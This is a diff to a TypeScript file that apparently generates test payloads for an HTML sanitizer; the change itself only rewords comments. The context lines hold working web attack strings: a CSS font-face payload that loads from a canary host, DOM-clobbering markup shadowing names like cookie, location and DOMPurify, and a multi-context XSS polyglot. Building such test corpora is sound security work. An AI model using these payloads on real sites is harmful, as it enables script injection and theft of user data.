@@ -1,5 +1,5 @@
-// What needs no script of its own to do harm: styles, names that take the place of the page's own, and texts
-// that fit many places at once.
+// Attacks without a script of their own: styles, names that shadow the page's own, and texts for many
+// contexts at once.
 import { CANARY, crossed, words, type Payload } from './payload.ts'
 
 const STYLES: readonly ((js: string) => string)[] = [
@@ -33,7 +33,7 @@ const KEYFRAMES: readonly Payload[] = [
     `<style>@font-face{font-family:x;src:url(${CANARY}/${js.length}.woff)}p{font-family:x}</style><p>x</p>`,
 ]
 
-/** Names of the page's own things, taken by elements. */
+/** Names of the page's own objects, taken by elements. */
 const TAKEN = words(`
   attributes childNodes parentNode innerHTML nodeName removeChild getElementById querySelector createElement currentScript cookie body head
   documentElement defaultView implementation location trustedTypes DOMPurify __proto__ constructor`)
@@ -46,7 +46,7 @@ const clobbering = crossed(
       : `<form tabindex=0 onfocus=${js}><input name=${name}><a id=${name} href="javascript:${js}">x</a></form>`,
 )
 
-/** Texts for many places: an attribute, a text, a script, a style, an address. */
+/** Polyglots: an attribute, a text, a script, a style, an address. */
 const EVERYWHERE: readonly Payload[] = [
   js =>
     `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${js} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${js}//>\\x3e`,
